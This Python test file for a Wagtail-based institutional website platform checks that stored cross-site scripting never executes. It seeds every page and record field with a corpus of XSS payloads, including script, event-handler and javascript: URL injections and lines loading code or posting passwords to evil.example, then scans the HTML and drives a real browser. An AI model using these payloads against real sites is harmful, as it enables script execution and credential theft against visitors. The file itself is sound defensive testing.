"""Nothing that anybody can write into a page or the register runs in a visitor's browser."""

import re

import pytest
from bs4 import BeautifulSoup
from wagtail.images.models import Image
from wagtail.images.tests.utils import get_test_image_file

from huduma.platform.delivery.models import LivePage
from huduma.platform.institutions.models import Institution
from huduma.systems.websites.actions import redraw_site
from huduma.systems.websites.models import ContactPage, FormPage, HomePage, NewsIndexPage, NewsPage, StandardPage
from tests.peers.ports import free_port, listens
from tests.peers.processes import running, wait_for

from .factories import make_institution_with_site, publish_news, questions_of_every_kind
from .visitor import visit

pytestmark = pytest.mark.django_db

CORPUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a linktype='page' id='1' href='javascript:alert(1)'>x</a>",
    "<a linktype='x' onclick=alert(1)>x</a>",
    "<embed embedtype='media' url='javascript:alert(1)'/>",
    "<embed embedtype='image' id='1' alt='\" onerror=alert(1)' format='left'/>",
    "<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>x</form>",
    "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css><style>@import '//evil.example/x.css'</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div id=main class=hd-alert data-hd-menu-toggle>x</div>",
    "<body onload=alert(1)><video><source onerror=alert(1)></video><details open ontoggle=alert(1)>",
    "<!--hd:top--><!--hd:bottom--><!--hd:head-->",
    "</title><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "{{ site.name }}{% load static %}{% debug %}",
    "\u202e<script>alert(1)</script>\u2028alert(1)",
    "<ScRiPt\x0c>alert(1)</sCrIpT\x0b>",
]
PATHS = ["/", "/kuhusu/", "/habari/", "/habari/2025/", "/mawasiliano/", "/mawasiliano/maoni/", "/en/", "/en/about/"]
EVERYTHING = "\n".join(CORPUS)
OUR_FORMS = re.compile(r"/tafuta/|/en/search/|/maoni-ya-ukurasa/|/en/page-feedback/|/fomu/\d+/")


@pytest.fixture
def poisoned() -> Institution:
    """A site with the whole corpus in every field, written past the forms."""
    institution = make_institution_with_site("evil")
    image = Image.objects.create(title=EVERYTHING[:255], file=get_test_image_file())
    texts = {"name_sw": EVERYTHING[:250], "name_en": EVERYTHING[-250:], "short_name_sw": "<script>1", "short_name_en": '"><svg/onload=1>'}
    contacts = {"email": "<script>@x.y", "phone": '"><script>1', "physical_address": CORPUS[3], "postal_address": CORPUS[4]}
    Institution.objects.filter(pk=institution.pk).update(**texts, **contacts, website="javascript:alert(1)")
    institution.refresh_from_db()
    body = [("paragraph", EVERYTHING), ("picture", {"image": image, "alt": EVERYTHING[:200], "caption": EVERYTHING[:250]})]
    body += [("paragraph", piece) for piece in CORPUS]
    publish_news(institution, EVERYTHING[:255], slug="sumu", summary=EVERYTHING, body=body, picture=image, picture_alt=EVERYTHING[:200])
    common = {"seo_title": EVERYTHING[:255], "search_description": EVERYTHING}
    HomePage.objects.filter(institution=institution).update(introduction=EVERYTHING, picture=image, picture_alt=EVERYTHING[:200], **common)
    for page in HomePage.objects.filter(institution=institution):
        page.body = body
        page.save(clean=False)
    NewsIndexPage.objects.filter(institution=institution).update(title=EVERYTHING[:255], introduction=EVERYTHING, **common)
    ContactPage.objects.filter(institution=institution).update(title=EVERYTHING[:255], introduction=EVERYTHING, **common)
    for page in StandardPage.objects.filter(institution=institution):
        page.title, page.summary, page.body = EVERYTHING[:255], EVERYTHING, body
        page.save(clean=False)
    for page in FormPage.objects.filter(institution=institution):
        page.title, page.introduction, page.purpose, page.thanks = EVERYTHING[:255], EVERYTHING, EVERYTHING[:200], EVERYTHING[:600]
        page.questions = questions_of_every_kind(EVERYTHING) + [q for piece in CORPUS for q in questions_of_every_kind(piece)]
        page.save(clean=False)
    NewsPage.objects.filter(institution=institution).update(**common)
    redraw_site(institution=institution, by=None)
    return institution


def harm_in(html: str) -> list[str]:
    """Whatever in the document could run or lead astray; empty for a harmless one."""
    document = BeautifulSoup(html, "html.parser")
    harm = [str(tag)[:200] for tag in document.find_all(["iframe", "object", "embed", "base", "math", "video", "noscript"])]
    harm += [str(tag) for tag in document.find_all("script") if not str(tag.get("src", "")).startswith("/static/") or tag.string]
    harm += [str(tag) for tag in document.find_all("style") if not (tag.string or "").startswith(":root{--hd-primary:#")]
    harm += [
        str(tag) for tag in document.find_all("link") if "evil" in str(tag.get("href")) and "evil.localhost" not in str(tag.get("href"))
    ]
    harm += [str(tag) for tag in document.find_all("meta", attrs={"http-equiv": True})]
    harm += [str(tag)[:200] for tag in document.find_all("form") if not OUR_FORMS.fullmatch(tag.get("action", ""))]
    for tag in document.find_all(True):
        for name, value in tag.attrs.items():
            text = "".join(str(value).split()).lower()
            if name.startswith("on") or name in ("style", "srcdoc", "formaction") or text.startswith(("javascript:", "data:", "vbscript:")):
                harm.append(f"{tag.name} {name}={value!r}")
    return harm


@pytest.mark.parametrize("piece", [CORPUS[0], CORPUS[1], CORPUS[3], CORPUS[7], CORPUS[11], CORPUS[14], CORPUS[25], CORPUS[26]])
def test_the_judge_sees_harm(piece):
    assert harm_in(f"<main>{piece}</main>")


@pytest.mark.slow
def test_no_page_carries_it(poisoned):
    paths = set(LivePage.objects.filter(site__institution=poisoned).values_list("path", flat=True))
    assert paths >= {*PATHS, "/habari/sumu/"}
    for path in paths:
        html = visit("evil.localhost", path)
        assert html.count("<main") == 1, path
        assert html.count('<footer class="hd-footer">') == 1, path
        assert harm_in(html) == [], path
    assert "alert(1)" in visit("evil.localhost", "/habari/sumu/")  # it is there, as text


@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
def test_nothing_runs_in_a_real_browser(poisoned, browser):
    """Every page is opened, and the pointer and the keyboard go over all that is on it."""
    said: list[str] = []
    port = free_port()
    paths = sorted(LivePage.objects.filter(site__institution=poisoned).values_list("path", flat=True))
    server = ["granian", "--interface", "wsgi", "--port", str(port), "--no-ws", "huduma.project.wsgi:application"]
    with running(*server, HUDUMA_PORT=str(port)):
        wait_for(lambda: listens(port), 60)
        page = browser.new_page()
        page.on("dialog", lambda dialog: (said.append(dialog.message), dialog.dismiss()))
        for path in paths:
            assert page.goto(f"http://evil.localhost:{port}{path}").status == 200
            page.evaluate(
                "document.querySelectorAll('*').forEach(e => ['mouseover', 'focus', 'toggle'].forEach(n => e.dispatchEvent(new Event(n))))"
            )
            page.wait_for_timeout(100)
        page.close()
    assert said == []
